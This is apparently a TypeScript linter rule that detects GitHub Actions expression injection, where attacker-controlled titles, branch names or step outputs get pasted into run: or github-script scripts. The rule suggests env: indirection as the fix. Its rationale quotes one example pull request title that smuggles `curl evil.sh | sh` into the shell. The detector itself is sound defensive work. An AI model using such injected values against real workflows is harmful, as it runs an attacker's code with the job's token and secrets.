import type { RuleFinding } from '../../check/findings';
import type { LanguageRuleContext, Rule } from '../rule';
import { inlineCode } from '../../text/markdown';
import { asScalar, mapValue } from '../shared-yaml/nodes';
import { untrustedContext } from './untrusted';
import { envIndirectionFix } from './env-indirection-fix';
import { untrustedOutputRead, untrustedWorkflowOutputs } from './step-outputs';
import { allSteps, classifyExpressions, expressionsOf, normaliseExpression, readWorkflowFiles, usesAction, variablesSetFrom } from './workflow';

/**
 * Flags `${{ … }}` expressions of attacker-controlled contexts (issue and pull request titles and
 * bodies, branch names, commit messages…) inside `run:` scripts and `actions/github-script`'s
 * `script`, where GitHub pastes their text into the script before the shell or Node reads it.
 */
export const workflowsExpressionInjection: Rule = {
  id: 'workflows/expression-injection',
  kind: 'language',
  defaultSeverity: 'error',
  summary: 'Attacker-controlled `${{ … }}` expression inside a script',
  rationale:
    'GitHub replaces `${{ … }}` with its value before the script runs, so a pull request titled ' +
    '`a"; curl evil.sh | sh; echo "` becomes shell code, running with the job\'s token and secrets. ' +
    'Titles, bodies, comments, branch names, commit messages and author names are chosen by whoever ' +
    'opens the issue, the pull request or the fork. Pass the value through `env:` and use it as a ' +
    'quoted variable (`env: TITLE: ${{ github.event.issue.title }}` and `"$TITLE"` in the script, ' +
    '`process.env.TITLE` in `github-script`): the shell then never parses it as code. `${{ env.TITLE }}` ' +
    'in the script would paste it all the same, and is reported too.\n\n' +
    'Outputs are followed: `steps.<id>.outputs.<name>` is reported when that step wrote it to ' +
    '`$GITHUB_OUTPUT` from such a value (directly or through an `env:` variable), every output of ' +
    '`tj-actions/changed-files` and `dorny/paths-filter` (file names are the contributor\'s choice), and ' +
    '`needs.<job>.outputs.<name>` when that job passes one of those on. ' +
    'Inputs (`inputs.*`) are not reported: only people with write access can dispatch a workflow, ' +
    'and a reusable workflow\'s inputs are checked where the caller passes them.',
  check: () => [],
  languages: {
    'github-actions': {
      // Not `${{`: a quoted scalar may spell the dollar as an escape (`\u0024{{`), and GitHub evaluates the value.
      textTriggers: ['{{'],
      check: (context) => checkInjection(context),
    },
  },
};

function checkInjection(context: LanguageRuleContext): RuleFinding[] {
  const findings: RuleFinding[] = [];
  const seen = new Set<string>();
  for (const file of readWorkflowFiles(context.document)) {
    const outputs = untrustedWorkflowOutputs(file);
    for (const { step, job } of allSteps(file)) {
      const untrustedEnv = variablesSetFrom([file.env, job?.env, step.env], file.document, (value) => classifyExpressions(value, untrustedContext));
      const scripts: { scalar: ReturnType<typeof asScalar>; where: string; fix: string }[] = [];
      if (step.run) scripts.push({ scalar: step.run, where: '`run:` script', fix: 'use `"$NAME"` in the script' });
      if (step.uses && usesAction(String(step.uses.value), 'actions/github-script')) {
        scripts.push({ scalar: asScalar(mapValue(step.with, 'script', file.document), file.document), where: '`github-script` script', fix: 'read `process.env.NAME` in the script' });
      }
      for (const { scalar, where, fix } of scripts) {
        if (scalar === undefined) continue;
        for (const expression of expressionsOf(scalar, context.text, file.document)) {
          const direct = untrustedContext(expression.body);
          const variable = direct === undefined ? environmentRead(expression.body, untrustedEnv) : undefined;
          const output = direct === undefined && variable === undefined ? untrustedOutputRead(expression.body, outputs.steps.get(job) ?? new Map(), outputs.jobs) : undefined;
          if (direct === undefined && variable === undefined && output === undefined) continue;
          const key = `${expression.start}:${expression.end}`;
          if (seen.has(key)) continue;
          seen.add(key);
          const message =
            direct !== undefined
              ? `${inlineCode(direct)} is pasted into this ${where} as code: whoever writes it can run commands with the job's token and secrets. ` +
                `Pass it through \`env:\` (\`NAME: \${{ ${expression.body} }}\`) and ${fix}.`
              : output !== undefined
                ? `${inlineCode(output.path)} holds ${output.source.includes(' ') ? output.source : inlineCode(output.source)} (${output.writer} wrote it), and \`\${{ }}\` pastes it into this ${where} as code: ` +
                  `whoever writes it can run commands with the job's token and secrets. Pass it through \`env:\` and ${fix}.`
                : `${inlineCode(`env.${variable!.name}`)} holds ${inlineCode(variable!.context)}, and \`\${{ }}\` pastes it into this ${where} as code all the same. ` +
                  `Read the variable at run time instead (${where.includes('github-script') ? `\`process.env.${variable!.name}\`` : `\`"$${variable!.name}"\``}).`;
          const quickFix = variable === undefined && scalar === step.run ? envIndirectionFix(context.text, file, job, step, expression) : undefined;
          findings.push({ start: expression.start, end: expression.end, message, ...(quickFix ? { fixes: [quickFix] } : {}) });
        }
      }
    }
  }
  return findings;
}

/** The untrusted variable an expression reads as `env.NAME` (GitHub's contexts ignore case). */
function environmentRead(body: string, variables: ReadonlyMap<string, string>): { name: string; context: string } | undefined {
  for (const match of normaliseExpression(body).matchAll(/\benv\.([a-z_][\w-]*)/g)) {
    for (const [name, context] of variables) if (name.toLowerCase() === match[1]) return { name, context };
  }
  return undefined;
}
